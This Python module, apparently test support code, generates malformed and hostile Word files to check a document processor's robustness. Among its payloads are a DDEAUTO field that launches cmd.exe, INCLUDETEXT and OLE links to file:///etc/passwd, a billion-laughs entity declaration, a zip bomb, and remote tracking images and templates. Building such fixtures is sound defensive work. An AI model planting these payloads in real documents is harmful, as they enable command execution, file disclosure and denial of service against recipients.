"""Generators of hostile and unusual Word files for the robustness battery (no binary fixture).

Each generator starts from a plain document made by python-docx and edits
parts of its package as text: a comment, an endnote, a DOCTYPE, a DDE field,
an OLE object, tracked changes… Not a test module.
"""

from __future__ import annotations

import io
import re
import zipfile

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RT = "http://schemas.openxmlformats.org/package/2006/relationships"
TEXT = "Texte de l'annexe reçue d'un partenaire."


def plain(text: str = TEXT, paragraphs: int = 1, template: bool = False) -> bytes:
    """A document with ``paragraphs`` paragraphs of ``text`` (python-docx's default template)."""
    import docx

    document = docx.Document()
    if template:  # python-docx's default template's body holds nothing we need
        pass
    for _ in range(paragraphs):
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def read(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    return out.getvalue()


def edit(data: bytes, name: str, change) -> bytes:
    parts = read(data)
    parts[name] = change(parts[name].decode("utf-8")).encode("utf-8")
    return write(parts)


def body(data: bytes, xml: str, *, replace_text: bool = True) -> bytes:
    """``data`` with ``xml`` (w: fragments) as its body content before the sectPr."""

    def change(doc: str) -> str:
        if replace_text:
            doc = re.sub(r"<w:p>.*?</w:p>|<w:p [^>]*>.*?</w:p>", "", doc, flags=re.S)
        return doc.replace("<w:sectPr", xml + "<w:sectPr", 1)

    return edit(data, "word/document.xml", change)


def add_part(data: bytes, name: str, xml: str, content_type: str, rel_type: str, *, source: str = "word/document.xml",
             rid: str = "rIdX1", target: str | None = None, external: bool = False) -> bytes:
    """A part (or an external target) related to ``source``."""
    parts = read(data)
    if name:
        parts[name] = xml.encode("utf-8")
        types = parts["[Content_Types].xml"].decode()
        types = types.replace("</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>')
        parts["[Content_Types].xml"] = types.encode()
    folder, base = source.rsplit("/", 1) if "/" in source else ("", source)
    rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
    rels = parts.get(rels_name, f'<?xml version="1.0"?><Relationships xmlns="{PKG_RT}"></Relationships>'.encode()).decode()
    if target is None:
        target = name.split("/", 1)[1] if name.startswith("word/") and source.startswith("word/") else name
    mode = ' TargetMode="External"' if external else ""
    rels = rels.replace("</Relationships>", f'<Relationship Id="{rid}" Type="{rel_type}" Target="{target}"{mode}/></Relationships>')
    parts[rels_name] = rels.encode()
    return write(parts)


def para(text: str) -> str:
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def field(instr: str, result: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


# --- the hostile documents ------------------------------------------------------------------


def with_comments() -> bytes:
    data = body(plain(), '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Texte commenté.</w:t></w:r>'
                '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>')
    comments = (f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="Relecteur" w:initials="R">'
                '<w:p><w:r><w:t>Remarque interne à ne pas signer.</w:t></w:r></w:p></w:comment></w:comments>')
    return add_part(data, "word/comments.xml", comments,
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml", f"{RT}/comments")


def with_endnotes() -> bytes:
    data = body(plain(), '<w:p><w:r><w:t>Texte annoté</w:t></w:r><w:r><w:endnoteReference w:id="1"/></w:r></w:p>')
    notes = (f'<w:endnotes xmlns:w="{W}"><w:endnote w:id="1"><w:p><w:r><w:t>Note de fin.</w:t></w:r></w:p>'
             "</w:endnote></w:endnotes>")
    return add_part(data, "word/endnotes.xml", notes,
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml", f"{RT}/endnotes")


def with_footnotes() -> bytes:
    data = body(plain(), '<w:p><w:r><w:t>Texte annoté</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>')
    notes = (f'<w:footnotes xmlns:w="{W}"><w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
             '</w:footnote><w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/>'
             '</w:r></w:p></w:footnote><w:footnote w:id="1"><w:p><w:r><w:t>Note de bas de page de l’annexe.</w:t>'
             "</w:r></w:p></w:footnote></w:footnotes>")
    return add_part(data, "word/footnotes.xml", notes,
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml", f"{RT}/footnotes")


DOCTYPE = '<!DOCTYPE w:document [<!ENTITY int "interne">]>'
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')


def with_doctype(part: str = "word/document.xml", declaration: str = DOCTYPE, data: bytes | None = None) -> bytes:
    def change(xml: str) -> str:
        at = xml.index("?>") + 2 if xml.startswith("<?xml") else 0
        xml = xml[:at] + declaration + xml[at:]
        if part == "word/document.xml":
            xml = xml.replace("<w:sectPr", para("&int;") + "<w:sectPr", 1) if "int" in declaration else xml
        return xml

    return edit(data or plain(), part, change)


def with_alt_chunk() -> bytes:
    data = body(plain(), para("Avant le contenu importé.") + '<w:altChunk r:id="rIdX1"/>' + para("Après."))
    return add_part(data, "word/afchunk.htm", "<html><body><p>Contenu HTML importé</p></body></html>",
                    "text/html", f"{RT}/aFChunk", target="afchunk.htm")


def with_linked_picture() -> bytes:
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="Image liée"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="0" name="lien.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdX1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    data = body(plain(), para(TEXT) + drawing)
    return add_part(data, "", "", "", f"{RT}/image", target="http://exemple.invalid/suivi.png", external=True)


def with_active_fields() -> bytes:
    xml = (
        para(TEXT)
        + field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "résultat DDE")
        + '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; "><w:r><w:t>inclus</w:t></w:r></w:fldSimple></w:p>'
        + field('INCLUDEPICTURE "http://exemple.invalid/pixel.png" \\d', "image")
        + field("PAGE", "1")
    )
    return body(plain(), xml)


def with_ole_objects() -> bytes:
    obj = (
        '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440">'
        '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="_x0000_i1025" style="width:72pt;height:72pt" type="#_x0000_t75">'
        "</v:shape>"
        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="{kind}" ProgID="Package" '
        'ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="{rid}"{extra}/>'
        "</w:object></w:r></w:p>"
    )
    xml = (
        para(TEXT)
        + obj.format(kind="Embed", rid="rIdX1", extra="")
        + obj.format(kind="Link", rid="rIdX2", extra=' UpdateMode="Always"')
        + '<w:p><w:hyperlink r:id="rIdX3"><w:r><w:t>mots de passe</w:t></w:r></w:hyperlink></w:p>'
    )
    data = body(plain(), xml)
    parts = read(data)
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 pas vraiment un objet OLE"
    types = parts["[Content_Types].xml"].decode().replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>')
    parts["[Content_Types].xml"] = types.encode()
    data = write(parts)
    data = add_part(data, "", "", "", f"{RT}/oleObject", rid="rIdX1", target="embeddings/oleObject1.bin")
    data = add_part(data, "", "", "", f"{RT}/oleObject", rid="rIdX2", target="file:///etc/passwd", external=True)
    return add_part(data, "", "", "", f"{RT}/hyperlink", rid="rIdX3", target="file:///etc/passwd", external=True)


def with_macros_and_attached_template(data: bytes | None = None) -> bytes:
    data = data or plain()
    parts = read(data)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    types = parts["[Content_Types].xml"].decode()
    types = types.replace("</Types>", '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    types = types.replace("wordprocessingml.document.main+xml", "PLACEHOLDER").replace(
        "PLACEHOLDER", "wordprocessingml.document.main+xml")
    parts["[Content_Types].xml"] = types.encode()
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdX9"/>', settings, count=1)
    if "xmlns:r=" not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
    parts["word/settings.xml"] = settings.encode()
    data = write(parts)
    data = add_part(data, "", "", "", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    rid="rIdX8", target="vbaProject.bin")
    return add_part(data, "", "", "", f"{RT}/attachedTemplate", source="word/settings.xml", rid="rIdX9",
                    target="http://exemple.invalid/modele.dotm", external=True)


def with_tracked_changes() -> bytes:
    xml = (
        '<w:p><w:r><w:t xml:space="preserve">Texte gardé </w:t></w:r>'
        '<w:ins w:id="1" w:author="Partenaire" w:date="2021-01-01T00:00:00Z"><w:r><w:t>ajouté</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="Partenaire" w:date="2021-01-01T00:00:00Z"><w:r><w:delText>supprimé en secret</w:delText></w:r></w:del>'
        "</w:p>"
    )
    return body(plain(), xml)


def with_bookmarks(count: int = 40) -> bytes:
    xml = "".join(
        f'<w:p><w:bookmarkStart w:id="{i}" w:name="_Toc{i:06d}"/><w:r><w:t>Section {i}</w:t></w:r>'
        f'<w:bookmarkEnd w:id="{i}"/></w:p>'
        for i in range(count)
    )
    return body(plain(), xml)


def with_custom_properties(xml: str, data: bytes | None = None) -> bytes:
    return add_part(data or plain(), "docProps/custom.xml", xml,
                    "application/vnd.openxmlformats-officedocument.custom-properties+xml",
                    f"{RT}/custom-properties", source="", rid="rIdX7", target="docProps/custom.xml")


def with_nameless_style(data: bytes | None = None) -> bytes:
    return edit(data or plain(), "word/styles.xml",
                lambda xml: xml.replace("</w:styles>", '<w:style w:type="paragraph" w:styleId="SansNom"><w:name/></w:style></w:styles>'))


def with_bad_num_id(data: bytes | None = None) -> bytes:
    return edit(data or plain(), "word/numbering.xml",
                lambda xml: re.sub(r'w:numId="\d+"', 'w:numId="un"', xml, count=1))


def bomb(size: int = 50 * 1024 * 1024) -> bytes:
    """A small file whose main part inflates to ``size`` bytes of paragraphs."""
    parts = read(plain())
    doc = parts["word/document.xml"].decode()
    one = para("Paragraphe répété.")
    filler = one * (size // len(one.encode()))
    parts["word/document.xml"] = doc.replace("<w:sectPr", filler + "<w:sectPr", 1).encode()
    return write(parts)
